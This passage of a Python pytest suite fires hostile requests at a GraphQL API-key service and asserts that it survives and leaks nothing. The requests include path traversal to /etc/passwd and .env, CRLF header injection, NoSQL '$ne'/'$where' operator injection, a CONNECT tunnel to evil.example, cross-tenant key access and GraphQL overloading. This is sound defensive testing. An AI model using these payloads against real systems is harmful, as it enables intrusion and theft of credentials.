    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "a star": b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "half a request": b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Le",
    "half a body": request("POST", "/graphql", GOOD)[:-5],
    "a path with a space": b"GET /li vez HTTP/1.1\r\nHost: x\r\n\r\n",
    "a path of bytes": b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
}
PATHS = {
    "another host": b"GET http://evil.example/livez HTTP/1.1\r\nHost: x\r\n\r\n",
    **{
        name: request("GET", path)
        for name, path in {
            "up and away": "/../../etc/passwd",
            "up and away, encoded": "/..%2f..%2fetc%2fpasswd",
            "the page's files": "/pages/../app.py",
            "the page's files, encoded": "/pages/..%2f..%2fapp.py",
            "a null byte": "/graphql%00",
            "bytes": "/graphql/%ff%fe",
            "a line break": "/graphql%0d%0aX-Injected:%20b",
            "two slashes": "//graphql",
            "a slash behind": "/graphql/",
            "a long path": "/" + "x" * 40_000,
            "a long query": "/graphql?query=" + "x" * 40_000,
            "10,000 parameters": "/graphql?" + "&".join(f"a{n}=1" for n in range(5_000)),
            "a parameter twice": "/graphql?query={__typename}&query={__typename}",
            "a bad escape": "/graphql?query=%zz%",
            "bad UTF-8": "/graphql?query=%ff%fe",
            "a surrogate": "/graphql?query=%ed%a0%80",
            "a mutation by GET": "/graphql?query="
            + quote('mutation { deleteApiKey(input: {domainId: "d1", apiKeyId: "k"}) { id } }'),
            "a subscription by GET": "/graphql?query="
            + quote('subscription { apiKeyChanged(input: {domainId: "d1"}) { type } }'),
            "variables that are none": "/graphql?query=%7B__typename%7D&variables=%7B",
            "variables of a list": "/graphql?query=%7B__typename%7D&variables=%5B%5D",
            "extensions that are none": "/graphql?query=%7B__typename%7D&extensions=1",
            "no query": "/graphql",
            "debug": "/debug",
            "metrics": "/metrics",
            "an environment": "/.env",
            "a repository": "/.git/config",
            "docs": "/docs",
            "REST by GET": "/identity/v1/api-key/list",
            "REST of nothing": "/identity/v1/api-key/__class__",
            "REST up and away": "/identity/v1/../../livez",
        }.items()
    },
    **{
        f"{method} /graphql": request(method, "/graphql", GOOD)
        for method in ("PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE")
    },
    "POST /livez": request("POST", "/livez", GOOD),
    "POST /readyz": request("POST", "/readyz", GOOD),
    "a page for a browser": request("GET", "/graphql", b"", "Accept: text/html"),
    "a WebSocket without a key": request("GET", "/graphql", b"", "Connection: Upgrade", "Upgrade: websocket"),
    "a WebSocket of another version": request(
        "GET",
        "/graphql",
        b"",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Key: x",
        "Sec-WebSocket-Version: 1",
    ),
    "a WebSocket elsewhere": request(
        "GET",
        "/livez",
        b"",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
    ),
    "a WebSocket of another protocol": request(
        "GET",
        "/graphql",
        b"",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Protocol: soap",
    ),
}
REST: dict[str, tuple[str, bytes]] = {
    **{f"{name} as a body": ("list", body) for name, body in BODIES.items() if name != "an empty object"},
    **{
        f"filter by {name}": (
            "list",
            json.dumps({"domain_id": "d1", "query": {"filter": conditions(filter, rest=True)}}).encode(),
        )
        for name, filter in FILTERS.items()
    },
    **{
        f"stat, {name}": ("stat", json.dumps({"domain_id": "d1", "query": {"aggregate": value}}).encode())
        for name, value in STAGES.items()
    },
    "a key for another": ("create", b'{"domain_id": "vault", "user_id": "mallory"}'),
    "a key as another role": ("create", b'{"domain_id": "d1", "user_id": "mallory", "role": "SYSTEM"}'),
    "an id that is an operator": ("delete", b'{"domain_id": "d1", "api_key_id": {"$ne": null}}'),
    "another domain's key": ("get", b'{"domain_id": "vault", "api_key_id": "k"}'),
    "an id with a null byte": ("get", b'{"domain_id": "d1", "api_key_id": "\\u0000"}'),
    "camel case": ("get", b'{"domainId": "d1", "apiKeyId": "k"}'),
    "fields of nothing": ("get", b'{"domain_id": "d1", "api_key_id": "k", "only": ["digest", "$where"]}'),
}
FORMS = {
    "nothing": b"",
    "bytes": b"token=\xff\xfe",
    "a bad escape": b"token=%zz%",
    "1,000 fields": b"&".join(b"a=%d" % n for n in range(1_000)),
    "two tokens": b"token=a&token=b",
    "a token of 100,000": b"token=" + b"x" * 100_000,
    "a token of null bytes": b"token=%00%00",
    "JSON": b'{"token": "x"}',
}
FORM_TYPE = "Content-Type: application/x-www-form-urlencoded"

CASES = [
    *named("document", {n: graphql(document) for n, document in DOCUMENTS.items()}, DOCUMENT_REFUSED),
    *named("document", {n: graphql(document) for n, document in ODD_DOCUMENTS.items()}),
    *named("variables", {n: graphql(*query) for n, query in VARIABLES.items()}),
    *named("name", {"of nothing": graphql(TYPENAME, operationName="x" * 50_000)}, {"OPERATION_RESOLUTION_FAILURE"}),
    *named("body", {n: request("POST", "/graphql", body) for n, body in BODIES.items()}),
    *named(
        "type",
        {t[:40] or "none": request("POST", "/graphql", GOOD, f"Content-Type: {t}", json_type=False) for t in TYPES},
        {"BAD_REQUEST"},
    ),
    *named(
        "authorization",
        {
            name: request("POST", "/graphql", GOOD, f"Authorization: {text}", auth=False)
            for name, text in AUTHORIZATIONS.items()
        },
        {"UNAUTHENTICATED"},
    ),
    *named(
        "authorization",
        {
            "twice": request("POST", "/graphql", GOOD, CREDENTIAL.strip()),
            "once good, once not": request("POST", "/graphql", GOOD, "Authorization: Bearer x"),
        },
        {"UNAUTHENTICATED"},
    ),
    *named("header", {name: request("POST", "/graphql", GOOD, line) for name, line in HEADERS.items()}, may_close=True),
    *named("wire", WIRES, may_close=True, half_closed=True),
    *named("path", PATHS, may_close=True),
    *named("REST", {n: request("POST", f"/identity/v1/api-key/{name}", body) for n, (name, body) in REST.items()}),
    *named(
        "introspect",
        {n: request("POST", "/introspect", body, FORM_TYPE, json_type=False) for n, body in FORMS.items()},
    ),
]


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    """A service that stands on a network, and in it the keys of a victim."""
    directory = tmp_path_factory.mktemp("hostile") / "data"
    with serving(
        directory,
        *("--host", "0.0.0.0"),
        GQL_IDENTITY_FAILED_CREDENTIALS_PER_MINUTE="0",
        GQL_IDENTITY_BODY_TIMEOUT_SECONDS="2",
    ) as service:
        service.url = service.url.replace("0.0.0.0", "127.0.0.1")
        yield service
        assert "unexpected error" not in service.err
        assert "Traceback" not in service.err


class Attack(NamedTuple):
    service: Service
    secret: str
    memory_bytes: int  # where it began


@pytest.fixture(scope="module")
def attack(service: Service) -> Attack:
    for role in ("USER", "DOMAIN_OWNER"):
        service.create(VICTIM["user_id"], VICTIM["domain_id"], name=VICTIM["name"], role=role)
    secret = service.create("mallory", "d1")["apiKey"]
    for query in (LIST, STATS):  # what it holds once it has answered anything
        service.data(query, {"i": {"domainId": "d1"}}, by=secret) if query is LIST else None
    return Attack(service, secret, memory(service))


@pytest.mark.parametrize("case", [pytest.param(case, id=case.name) for case in CASES])
def test_a_hostile_request_is_answered_calmly_and_harms_nobody(attack: Attack, case: Case) -> None:
    wire = case.wire.replace(b"CREDENTIAL", f"Bearer {attack.secret}".encode())
    status, headers, body = exchange(attack.service, wire, case.half_closed)
    assert_alive(attack.service)
    assert status or case.may_close, "no answer"
    assert status < 500, (status, body)
    assert not INSIDES.search(body), INSIDES.search(body)
    assert not SECRET.search(body)
    assert "x-injected" not in headers
    assert len(body) < 20_000
    if case.codes is not None:
        answer = json.loads(body)
        assert {error["extensions"]["code"] for error in answer["errors"]} <= case.codes, answer
        assert len(answer["errors"]) <= 10
        assert all(len(error["message"]) <= 300 for error in answer["errors"])
        assert "data" not in answer
    elif body and headers.get("content-type", "").startswith("application/json"):
        json.loads(body)
    assert memory(attack.service) - attack.memory_bytes < MORE_MEMORY_BYTES


def test_there_are_at_least_200_hostile_requests() -> None:
    assert len({case.wire for case in CASES}) == len(CASES) >= 200


HELLO = '{"type": "connection_init"}'


@pytest.mark.parametrize(
    ("messages", "code"),
    [
        ([json.dumps({"type": "ping", "payload": "x" * 300_000})], 1009),
        (["x" * 3_000_000], 1009),
        (["[" * 100_000 + "]" * 100_000], 4400),
        (["[]"], 4400),
        ([""], 4400),
        (['{"type": "subscribe", "id": "", "payload": {}}'], 4400),
        (['{"type": "subscribe", "id": 1, "payload": {}}'], 4400),
        (['{"type": "subscribe", "id": "1", "payload": "x"}'], 4400),
        ([b"\x00" * 1_000], 4400),
        ([HELLO, *[json.dumps({"type": "subscribe", "id": "1", "payload": HANGING})] * 2], 4409),
    ],
    ids=lambda value: None if isinstance(value, int) else str(value)[:60],
)
def test_hostile_websockets_are_closed_and_harm_nobody(attack: Attack, messages: list[str], code: int) -> None:
    url = attack.service.url.replace("http", "ws") + "/graphql"
    headers = {"Authorization": f"Bearer {attack.secret}"}
    protocols = [Subprotocol("graphql-transport-ws")]
    with connect(url, subprotocols=protocols, additional_headers=headers, proxy=None) as websocket:
        with pytest.raises(ConnectionClosed) as closed:
            talk(websocket, messages)
        assert closed.value.rcvd is not None
        assert closed.value.rcvd.code == code
    assert_alive(attack.service)
    assert memory(attack.service) - attack.memory_bytes < MORE_MEMORY_BYTES


def talk(websocket: ClientConnection, messages: list[str]) -> None:
    for message in messages:
        websocket.send(message)
    for _ in range(1_000):
        assert not INSIDES.search(str(websocket.recv(timeout=10)))


class TestWhatPublicScannersTry:
    """As a service on a network answers them, to who has no credential and to who has one."""

    @pytest.fixture(params=["nobody", "a caller"])
    def ask(self, attack: Attack, request: pytest.FixtureRequest) -> Iterator[Any]:
        headers = {} if request.param == "nobody" else {"Authorization": f"Bearer {attack.secret}"}
        with httpx.Client(base_url=attack.service.url, headers=headers, trust_env=False) as client:
            yield client

    @pytest.mark.parametrize(
        "query",
        [
            "query cop { " + " ".join(f"alias{n}: __typename" for n in range(101)) + " }",
            "query cop { __typename " + "@aa" * 10 + " }",
            "query cop { " + "__typename " * 500 + "}",
            "query cop { __schema { types { " + nested("fields { type { ", "name", " } } ", 4) + " } } }",
            "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }",
        ],
        ids=["aliases", "directives", "fields", "circular introspection", "circular fragments"],
    )
    def test_overloading_is_refused(self, ask: httpx.Client, query: str) -> None:
        answer = ask.post("/graphql", json={"query": query}).json()
        assert "data" not in answer
        # One scanner counts: as many errors as it sent directives would mean that each was looked at.
        assert 0 < len(answer["errors"]) < 10

    def test_a_batch_is_refused(self, ask: httpx.Client) -> None:
        answer = ask.post("/graphql", json=[{"query": "query cop { __typename }"}] * 10)
        assert answer.status_code == 400
        assert list(answer.json()) == ["errors"]

    @pytest.mark.parametrize(
        "query",
        [
            "query cop { __schema { directive } }",
            "{ apiKey { id } }",
            "{ apiKeyz }",
            "{ apiKey(inputs: 1) { idd } }",
            'mutation { createApiKey(input: {domainID: "d"}) { id } }',
            "query($a: APIKeyInf) { __typename }",
        ],
    )
    def test_names_are_suggested_to_nobody_else_than_callers(self, ask: httpx.Client, query: str) -> None:
        answer = ask.post("/graphql", json={"query": query})
        assert answer.json()["errors"]
        assert "Authorization" in ask.headers or "did you mean" not in answer.text.lower()

    def test_a_mutation_by_get_is_refused(self, ask: httpx.Client) -> None:
        answer = ask.get("/graphql", params={"query": "mutation cop { __typename }"})
        assert answer.status_code == 405
        assert "data" not in answer.json()

    @pytest.mark.parametrize("form", [{"data": {"query": TYPENAME}}, {"files": {"query": TYPENAME.encode()}}])
    def test_a_form_is_refused(self, ask: httpx.Client, form: Any) -> None:
        answer = ask.post("/graphql", **form)
        assert answer.status_code == 415
        assert "data" not in answer.json()

    def test_nothing_is_traced(self, ask: httpx.Client) -> None:
        headers = {"X-Apollo-Tracing": "1", "Apollo-Federation-Include-Trace": "ftv1"}
        answer = ask.post("/graphql?debug=1", json={"query": TYPENAME}, headers=headers)
        assert answer.json() == {"data": {"__typename": "Query"}}

    @pytest.mark.parametrize(
        "query", ["qwerty cop { abc }", "query cop {", "{ a(b: 1) }", "\x00", "query($a: X!) { a }"]
    )
    def test_an_error_shows_nothing_of_the_inside(self, ask: httpx.Client, query: str) -> None:
        answer = ask.post("/graphql", json={"query": query})
        for error in answer.json()["errors"]:
            assert error.keys() <= {"message", "locations", "path", "extensions"}
            assert list(error["extensions"]) == ["code"]
        assert not INSIDES.search(answer.text)

    @pytest.mark.parametrize(
        "path",
        ["/", "/graphql", "/graphiql", "/pages/", "/pages/graphiql/index.html", "/playground", "/console", "/altair"],
    )
    def test_no_page_is_shown(self, ask: httpx.Client, path: str) -> None:
        answer = ask.get(path, headers={"Accept": "text/html"})
        assert answer.status_code in (400, 404)
        assert answer.headers["Content-Type"].startswith("application/json")

    @pytest.mark.parametrize("query", ["{ __schema { queryType { name } } }", '{ __type(name: "Query") { name } }'])
    def test_the_schema_is_told_to_callers_alone(self, ask: httpx.Client, query: str) -> None:
        answer = ask.post("/graphql", json={"query": query}).json()
        assert ("data" in answer) == ("Authorization" in ask.headers)


def exchange(service: Service, wire: bytes, half_closed: bool) -> tuple[int, dict[str, str], str]:
    """The status, headers and body of the answer; 0 where the connection was closed without one."""
    with socket.create_connection(address(service), timeout=10) as client:
        try:
            client.sendall(wire)
            if half_closed:
                client.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # it has read enough
        answer = http.client.HTTPResponse(client, method=wire.partition(b" ")[0].decode("latin-1"))
        try:
            answer.begin()
            body = answer.read()
        except (OSError, http.client.HTTPException):
            return 0, {}, ""
        return answer.status, {name.lower(): value for name, value in answer.getheaders()}, body.decode()


def address(service: Service) -> tuple[str, int]:
    url = urlsplit(service.url)
    return url.hostname or "", url.port or 0


def assert_alive(service: Service) -> None:
    """It answers at once: the best of three, since a machine busy with other tests may be slow once."""
    took: list[float] = []
    while len(took) < 3 and min(took, default=LIVE_SECONDS) >= LIVE_SECONDS:
        began = time.monotonic()
        assert service.status("/livez") == 200
        took.append(time.monotonic() - began)
    assert min(took) < LIVE_SECONDS


def memory(service: Service) -> int:
    """The bytes of memory that the process holds."""
    return int(Path(f"/proc/{service.process.pid}/statm").read_text().split()[1]) * resource.getpagesize()
